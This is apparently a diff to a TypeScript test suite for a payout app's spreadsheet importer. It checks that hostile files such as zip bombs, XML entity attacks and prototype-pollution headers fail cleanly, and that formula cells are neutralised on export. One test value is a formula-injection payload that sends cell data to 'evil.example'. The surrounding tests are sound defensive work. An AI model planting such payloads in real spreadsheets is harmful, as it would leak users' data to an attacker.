@@ -2,10 +2,15 @@
  * Hostile and broken files (issue 7 §2): each gets a clear message naming what is wrong, in bounded
  * time and memory; never a crash or a hang. Built at test time into a temp dir (corpus.ts).
  */
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import * as XLSX from 'xlsx'
 import { afterAll, describe, expect, it } from 'vitest'
+import type { RunRow } from '../../../../../../../shared/domain/bulk-run'
+import { reportTable } from '../../../../../../../electron/main/services/bulk/run/run-report'
+import type { RunState } from '../../../../../../../electron/main/services/bulk/run/run-store'
+import { writeExportTable } from '../../../../../../../electron/main/services/export/table-export'
 import type { BulkFileError, BulkImportResult } from '../../../../../../../shared/domain/bulk'
 import { importFile } from '../../../../../../../electron/main/services/bulk/import/import-file'
 import {
@@ -17,6 +22,8 @@ import {
   wideHeader,
   zipNotWorkbook,
 } from '../../../../../../fixtures/sheets/corpus'
+import { HOSTILE_NAMES, hostileCorpusDir, isClearMessage, runReader } from '../../../../../hostile/hostile-corpus'
+import type { ReaderOutcome } from '../../../../../hostile/hostile-corpus'
 
 const dir = mkdtempSync(join(tmpdir(), 'payout-desk-hostile-'))
 afterAll(() => rmSync(dir, { recursive: true, force: true }))
@@ -160,5 +167,179 @@ describe('hostile files', () => {
       message:
         'No column for customer e-mail, narration. Columns found: "Amount", "Bank Code", "Account Number", "Name".',
     })
+  })
+})
+
+/**
+ * The whole hostile corpus (tests/fixtures/hostile/, issue 13 §4) through the importer as the app
+ * runs it: the Sheet step's look at the file, then the import in its worker. Each file ends in a
+ * clear error naming the file, or in the result written here, within bounded time and memory. The
+ * child's peak RSS includes the import workers (threads of that process).
+ */
+describe('the hostile corpus through the importer', () => {
+  /** What each file gives: rows read / valid rows, or the error's code. */
+  const EXPECTED: Record<string, string> = {
+    'empty.csv': 'empty_file',
+    'only-utf8-bom.csv': 'sheet_empty',
+    'only-utf16le-bom.csv': 'sheet_empty',
+    'only-newlines.csv': 'sheet_empty',
+    'only-delimiters.csv': 'no_header',
+    'binary-noise.bin': 'not_a_spreadsheet',
+    'binary-noise.xlsx': 'not_a_spreadsheet',
+    'binary-noise.csv': 'not_a_spreadsheet',
+    'csv-named.xlsx': '2/2',
+    'xlsx-named.csv': '2/2',
+    'pdf-named.xlsx': 'not_a_spreadsheet',
+    'png-named.csv': 'not_a_spreadsheet',
+    'jpeg-named.xls': 'not_a_spreadsheet',
+    'exe-named.xlsx': 'not_a_spreadsheet',
+    'elf-named.csv': 'not_a_spreadsheet',
+    'rtf-named.csv': 'not_a_spreadsheet',
+    'html-saved-as.xls': 'not_a_spreadsheet',
+    'spreadsheetml-2003.xls': 'not_a_spreadsheet',
+    'legacy-biff8.xls': '2/2',
+    'legacy-biff5.xls': '2/2',
+    'legacy-biff2.xls': 'not_a_spreadsheet',
+    'truncated.xls': 'unreadable',
+    'opendocument.ods': 'not_a_workbook',
+    'binary-workbook.xlsb': '2/2',
+    'truncated.xlsx': 'unreadable',
+    'truncated-directory.xlsx': 'unreadable',
+    'zip-not-workbook.xlsx': 'not_a_workbook',
+    'zip-empty-archive.xlsx': 'not_a_workbook',
+    'zip-encrypted-entry.xlsx': 'unreadable',
+    'zip-lying-size.xlsx': 'sheet_empty',
+    'zip-traversal-names.xlsx': '2/2',
+    'zip-in-zip.xlsx': 'sheet_empty',
+    'broken-sheet-xml.xlsx': 'sheet_empty',
+    'broken-workbook-xml.xlsx': 'unreadable',
+    'missing-sheet-part.xlsx': 'unreadable',
+    // Entities are never expanded and external ones never fetched: the text stays as written.
+    'xml-billion-laughs.xlsx': '1/1',
+    'xml-external-entity.xlsx': '1/1',
+    'xml-deep-nesting.xlsx': '1/0',
+    'xml-utf16.xlsx': '2/2',
+    'shared-string-out-of-range.xlsx': 'unreadable',
+    'shared-strings-count-lie.xlsx': '2/2',
+    'proto-sheet-names.xlsx': '2/2',
+    'proto-headers.csv': '1/1',
+    'proto-headers.xlsx': '1/1',
+    'huge-dimension.xlsx': 'too_many_rows',
+    'far-cell.xlsx': 'too_many_rows',
+    'rows-out-of-order.xlsx': '2/2',
+    'cell-errors-and-booleans.xlsx': '1/0',
+    // Formula text is read as text (cached values; never evaluated); without a cached value, empty.
+    'formulas.xlsx': '7/7',
+    'formulas-no-cache.xlsx': '7/0',
+    'formulas.csv': '7/7',
+    'utf16le-bom.csv': '2/2',
+    'utf16le-no-bom.csv': '2/2',
+    'utf16be-bom.csv': '2/2',
+    'utf16be-no-bom.csv': '2/2',
+    'windows-1252.csv': '1/1',
+    'latin1.csv': '1/1',
+    'shift-jis.csv': '5/5',
+    'gbk.csv': '5/5',
+    'utf8-invalid-sequences.csv': '1/1',
+    'utf32le-bom.csv': '2/2',
+    'nul-bytes.csv': 'not_a_spreadsheet',
+    'unterminated-quote.csv': 'csv_unterminated_quote',
+    'carriage-returns-only.csv': '2/2',
+    // A right-to-left override in a name is refused on its row.
+    'bidi-and-zero-width.csv': '1/0',
+    'identity-scan.png': 'not_a_spreadsheet',
+    'svg-with-script.png': 'not_a_spreadsheet',
+    'polyglot.jpg': 'not_a_spreadsheet',
+    'truncated.png': 'not_a_spreadsheet',
+    'pdf-with-javascript.pdf': 'not_a_spreadsheet',
+    // Our history exports are not payout sheets: they lack bank code, account and e-mail columns.
+    'export-clean.xlsx': 'missing_columns',
+    'export-clean.csv': 'missing_columns',
+    'export-formulas.xlsx': 'missing_columns',
+    'export-formulas.csv': 'missing_columns',
+    'export-proto-column.xlsx': 'missing_columns',
+    'export-rows-removed.xlsx': 'missing_columns',
+    'export-amount-text.csv': 'missing_columns',
+    'large-50mb.csv': 'too_many_rows',
+    'over-limit-70mb.csv': 'too_large',
+    'zip-bomb.xlsx': 'too_large',
+    'zip-bomb-under-limit.xlsx': 'too_large',
+    'export-bomb.xlsx': 'too_large',
+    'million-empty-rows.csv': '1/1',
+    'million-empty-rows.xlsx': 'too_many_rows',
+    'wide-10000-columns.csv': 'too_many_columns',
+    'wide-10000-columns.xlsx': 'too_many_columns',
+    // A 1 MB narration is read whole, and refused on its row (at most 255 characters are sent).
+    'cell-1mb.csv': '1/0',
+    'cell-1mb.xlsx': '1/0',
+    'huge-shared-strings.xlsx': '1/1',
+    'many-zip-entries.xlsx': 'too_large',
+    'one-line-10mb.csv': 'no_header',
+    'rows-200k.csv': 'too_many_rows',
+  }
+  /** Generous bounds: a reader gone unbounded (a bomb inflated, a sheet read whole) passes them by far. */
+  const MAX_MS_PER_FILE = 45_000
+  const MAX_PEAK_RSS_MB = 1_200
+
+  it('ends every file in a clear error or the expected result, in bounded time and memory, polluting nothing', async () => {
+    const outcomes = await runReader('bulk', { timeoutMs: 900_000 })
+    expect(outcomes.map((outcome) => outcome.name)).toEqual(HOSTILE_NAMES)
+    expect(Object.keys(EXPECTED).sort()).toEqual([...HOSTILE_NAMES].sort())
+    const got = (outcome: ReaderOutcome): string =>
+      outcome.outcome === 'ok'
+        ? (/(\d+) rows, (\d+) valid/
+            .exec(outcome.result ?? '')
+            ?.slice(1, 3)
+            .join('/') ?? String(outcome.result))
+        : `${outcome.code}`
+    expect(Object.fromEntries(outcomes.map((outcome) => [outcome.name, got(outcome)]))).toEqual(EXPECTED)
+    for (const outcome of outcomes) {
+      expect(outcome.outcome, `${outcome.name}: ${outcome.message ?? ''}`).not.toBe('crash')
+      if (outcome.outcome === 'refused') {
+        expect(outcome.file?.endsWith(`/${outcome.name}`), `${outcome.name} names its file`).toBe(true)
+        expect(isClearMessage(outcome.message, null), outcome.message).toBe(true)
+      }
+      expect(outcome.ms, `${outcome.name} took ${outcome.ms} ms`).toBeLessThan(MAX_MS_PER_FILE)
+      expect(outcome.peakRssMb, `peak RSS ${outcome.peakRssMb} MB after ${outcome.name}`).toBeLessThan(MAX_PEAK_RSS_MB)
+      expect(outcome.polluted, `${outcome.name} polluted Object.prototype`).toBe(false)
+    }
+    // Formula text stays text: never evaluated (the cached value or nothing), as the cell was written.
+    expect(outcomes.find((outcome) => outcome.name === 'formulas.xlsx')?.result).toContain('=HYPERLINK(')
+    expect(outcomes.find((outcome) => outcome.name === 'xml-external-entity.xlsx')?.result).toContain('"&xxe;"')
+  }, 1_000_000)
+})
+
+describe('formula cells of an imported sheet', () => {
+  it('stay text through the import and are neutralised in the run report, XLSX and CSV alike', async () => {
+    const corpus = hostileCorpusDir()
+    for (const name of ['formulas.xlsx', 'formulas.csv']) {
+      const result = (await importFile({ path: join(corpus, name) }, { currency: 'NGN' })) as BulkImportResult
+      const narrations = result.items.map((item) => item.narration)
+      expect(narrations).toContain('=HYPERLINK("http://evil.example/steal?d="&A2,"Click for details")')
+      const rows = result.items.map((item, index): RunRow => ({
+        index,
+        item,
+        excluded: false,
+        errors: [],
+        warnings: [],
+        resolution: 'not_needed' as RunRow['resolution'],
+        status: 'not_sent' as RunRow['status'],
+      }))
+      const table = reportTable({ id: 'BR-hostile', currency: 'NGN' } as RunState, rows)
+      const out = join(dir, `report-of-${name}`)
+      await writeExportTable(table, `${out}.xlsx`, 'xlsx')
+      await writeExportTable(table, `${out}.csv`, 'csv')
+      const book = XLSX.read(readFileSync(`${out}.xlsx`), { type: 'buffer', cellFormula: true })
+      const sheet = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet
+      const cells = Object.entries(sheet).filter(([ref]) => /^[A-Z]+\d+$/.test(ref)) as Array<[string, XLSX.CellObject]>
+      expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([])
+      const texts = cells.map(([, cell]) => String(cell.v))
+      for (const narration of narrations.filter((text) => /^[=+\-@]/.test(text))) {
+        expect(texts).toContain(`'${narration}`)
+        expect(texts).not.toContain(narration)
+      }
+      const csv = readFileSync(`${out}.csv`, 'utf8')
+      expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m)
+    }
   })
 })
